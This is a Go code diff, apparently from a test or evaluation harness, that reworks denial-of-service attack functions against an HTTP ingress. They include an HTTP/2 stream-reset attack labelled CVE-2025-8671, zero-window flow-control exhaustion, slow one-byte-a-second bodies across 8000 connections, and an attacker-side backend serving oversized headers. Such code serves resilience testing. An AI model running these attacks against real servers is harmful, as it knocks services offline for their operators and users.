@@ -5,6 +5,7 @@ import (
 	"context"
 	"crypto/tls"
 	"errors"
+	"fmt"
 	"io"
 	"net"
 	"net/http"
@@ -44,9 +45,9 @@ func dial(ctx context.Context, port string) (net.Conn, error) {
 
 const request = "GET / HTTP/1.1\r\nHost: " + victimHost + "\r\n\r\n"
 
-// idle keeps connections after one answered request: COUNT.
+// idle keeps connections after one answered request: PORT COUNT.
 func idle(ctx context.Context, args []string, times *atomic.Int64) error {
-	count, err := strconv.Atoi(args[0])
+	count, err := strconv.Atoi(args[1])
 	if err != nil {
 		return err
 	}
@@ -58,7 +59,7 @@ func idle(ctx context.Context, args []string, times *atomic.Int64) error {
 			break
 		}
 		wg.Go(func() {
-			c, err := dial(ctx, ingressPort)
+			c, err := dial(ctx, args[0])
 			if err == nil {
 				_, _ = io.WriteString(c, request)
 				if _, err = c.Read(make([]byte, 1)); err == nil {
@@ -95,8 +96,8 @@ type h2 struct {
 	next  uint32
 }
 
-func dialH2(ctx context.Context, settings ...http2.Setting) (*h2, error) {
-	c, err := dial(ctx, ingressPort)
+func dialH2(ctx context.Context, port string, settings ...http2.Setting) (*h2, error) {
+	c, err := dial(ctx, port)
 	if err != nil {
 		return nil, err
 	}
@@ -118,10 +119,10 @@ func (h *h2) get(host, path string) (stream uint32, err error) {
 	return stream, h.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: h.block.Bytes(), EndHeaders: true, EndStream: true})
 }
 
-// madeYouReset has the server reset every stream, by breaking the protocol on it (CVE-2025-8671).
-func madeYouReset(ctx context.Context, _ []string, times *atomic.Int64) error {
+// madeYouReset has the server reset every stream, by breaking the protocol on it (CVE-2025-8671): PORT.
+func madeYouReset(ctx context.Context, args []string, times *atomic.Int64) error {
 	return crowd(ctx, 2, func(ctx context.Context) {
-		h, err := dialH2(ctx)
+		h, err := dialH2(ctx, args[0])
 		for err == nil && ctx.Err() == nil {
 			var stream uint32
 			if stream, err = h.get(victimHost, "/"); err == nil {
@@ -148,7 +149,7 @@ func unread(ctx context.Context, _ []string, times *atomic.Int64) error {
 // windowZero asks for large responses, and lets the server send none of them.
 func windowZero(ctx context.Context, _ []string, times *atomic.Int64) error {
 	return crowd(ctx, 10, func(ctx context.Context) {
-		h, err := dialH2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		h, err := dialH2(ctx, ingressPort, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 		for range 250 {
 			if err == nil {
 				_, err = h.get(attackerHost, "/large")
@@ -161,10 +162,10 @@ func windowZero(ctx context.Context, _ []string, times *atomic.Int64) error {
 	})
 }
 
-// slowBodies sends bodies at one byte a second.
-func slowBodies(ctx context.Context, _ []string, times *atomic.Int64) error {
+// slowBodies sends bodies at one byte a second: PORT.
+func slowBodies(ctx context.Context, args []string, times *atomic.Int64) error {
 	return crowd(ctx, 8000, func(ctx context.Context) {
-		c, err := dial(ctx, ingressPort)
+		c, err := dial(ctx, args[0])
 		if err != nil {
 			return
 		}
@@ -206,8 +207,8 @@ func once(ctx context.Context, args []string, times *atomic.Int64) error {
 	return nil
 }
 
-// backend is a tenant's own server, which is on the attackers' side.
-func backend(_ context.Context, _ []string) error {
+// backend is a tenant's own server, which is on the attackers' side, and what they ask in the agent's place: PORT.
+func backend(ctx context.Context, args []string) error {
 	mux := http.NewServeMux()
 	mux.HandleFunc("/large-header", func(w http.ResponseWriter, _ *http.Request) {
 		line := strings.Repeat("x", 95_000)
@@ -224,5 +225,14 @@ func backend(_ context.Context, _ []string) error {
 		}
 	})
 	mux.HandleFunc("/", func(_ http.ResponseWriter, r *http.Request) { _, _ = io.Copy(io.Discard, r.Body) })
-	return http.ListenAndServe(":8080", mux)
+	protocols := new(http.Protocols)
+	protocols.SetHTTP1(true)
+	protocols.SetUnencryptedHTTP2(true)
+	server := &http.Server{Addr: ":" + args[0], Handler: mux, Protocols: protocols}
+	defer context.AfterFunc(ctx, func() { server.Close() })()
+	if err := server.ListenAndServe(); !errors.Is(err, http.ErrServerClosed) {
+		return err
+	}
+	fmt.Println("null")
+	return nil
 }
